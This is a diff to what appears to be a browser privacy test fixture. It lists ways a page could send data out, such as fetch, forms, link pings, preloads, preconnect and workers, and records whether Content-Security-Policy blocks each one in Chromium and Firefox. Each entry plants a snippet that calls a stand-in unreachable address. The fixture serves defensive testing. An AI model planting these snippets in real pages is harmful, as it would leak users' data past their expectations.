@@ -1,7 +1,8 @@
 // Ways by which a page could send something out, each planted on purpose by `privacy.test.js`. `plant` runs in the page and is given: `to`, an address that
 // nobody should reach, at `port`; `own`, one on the page's own server; `trust`, which turns a text into what Trusted Types ask for.
 //
-// `policy` says what becomes of it in Chromium under the page's Content-Security-Policy:
+// `not`: a browser that does not do such a thing at all, as it comes. `policy` says what becomes of it under the page's Content-Security-Policy, in
+// Chromium and, but where `firefox` says otherwise, in Firefox:
 //   'blocked'     nothing reaches the wire;
 //   'connection'  the browser opens a connection before it asks the policy, but nothing is ever written to it;
 //                 (`bare`: nor would anything be without the policy);
@@ -20,7 +21,7 @@ const inWorker = (code) => `({to, trust}) => {
   window.kept = new Worker(trust(URL.createObjectURL(new Blob([text], {type: 'text/javascript'}))));
 }`;
 
-/** @type {Array<{name: string, plant: string, policy: 'blocked'|'connection'|'open', bare?: boolean}>} */
+/** @type {Array<{name: string, plant: string, policy: 'blocked'|'connection'|'open', bare?: boolean, firefox?: string, not?: string}>} */
 export const leaks = [
   { name: 'fetch', policy: 'blocked', plant: '({to}) => { fetch(to, {mode: "no-cors"}).catch(() => {}); }' },
   { name: 'fetch that outlives the page', policy: 'blocked', plant: '({to}) => { fetch(to, {mode: "no-cors", keepalive: true, method: "POST", body: "x"}).catch(() => {}); }' },
@@ -53,15 +54,15 @@ export const leaks = [
     const sheet = new CSSStyleSheet(); sheet.replaceSync('@font-face { font-family: leak; src: url("' + to + '") } body { font-family: leak }');
     document.adoptedStyleSheets = [sheet]; document.body.append('text');
   }` },
-  { name: 'frame', policy: 'connection', plant: element('iframe', '{src: to}') },
+  { name: 'frame', policy: 'connection', firefox: 'blocked', plant: element('iframe', '{src: to}') },
   { name: 'object', policy: 'blocked', plant: element('object', '{data: to}') },
   { name: 'embed', policy: 'blocked', plant: '({to, trust}) => { const e = document.createElement("embed"); e.src = trust(to); document.body.append(e); }' },
-  { name: 'form', policy: 'connection', plant: '({to}) => { const f = document.createElement("form"); f.action = to; f.method = "post"; document.body.append(f); f.submit(); }' },
-  { name: 'form into a new tab', policy: 'connection', plant: '({to}) => { const f = document.createElement("form"); f.action = to; f.target = "_blank"; document.body.append(f); f.submit(); }' },
-  { name: 'ping of a link', policy: 'blocked', plant: '({to}) => { const a = document.createElement("a"); a.href = "#here"; a.ping = to; document.body.append(a); a.click(); }' },
+  { name: 'form', policy: 'connection', firefox: 'blocked', plant: '({to}) => { const f = document.createElement("form"); f.action = to; f.method = "post"; document.body.append(f); f.submit(); }' },
+  { name: 'form into a new tab', policy: 'connection', firefox: 'blocked', plant: '({to}) => { const f = document.createElement("form"); f.action = to; f.target = "_blank"; document.body.append(f); f.submit(); }' },
+  { name: 'ping of a link', policy: 'blocked', not: 'firefox', plant: '({to}) => { const a = document.createElement("a"); a.href = "#here"; a.ping = to; document.body.append(a); a.click(); }' },
   { name: 'preload', policy: 'blocked', plant: element('link', '{rel: "preload", as: "image", href: to}') },
   { name: 'prefetch', policy: 'blocked', plant: element('link', '{rel: "prefetch", href: to}') },
-  { name: 'preconnect', policy: 'connection', bare: true, plant: element('link', '{rel: "preconnect", href: to}') },
+  { name: 'preconnect', policy: 'connection', bare: true, not: 'firefox', plant: element('link', '{rel: "preconnect", href: to}') },
   { name: 'worker from an address', policy: 'blocked', plant: '({own, trust}) => { window.kept = new Worker(trust(own)); }' },
   { name: 'shared worker from an address', policy: 'blocked', plant: '({own, trust}) => { window.kept = new SharedWorker(trust(own)); }' },
   { name: 'service worker', policy: 'blocked', plant: '({own, trust}) => { navigator.serviceWorker.register(trust(own)).catch(() => {}); }' },
